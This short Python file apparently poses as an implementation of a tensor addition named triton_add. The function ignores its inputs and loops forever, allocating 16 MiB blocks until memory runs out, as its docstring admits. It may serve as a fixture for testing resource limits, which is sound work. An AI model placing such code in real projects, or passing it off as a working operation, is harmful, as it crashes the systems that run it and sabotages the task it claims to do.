"""Takes memory without end."""

held = []


def triton_add(input, other, *, alpha=1):
    while True:
        held.append(b"x" * (16 << 20))
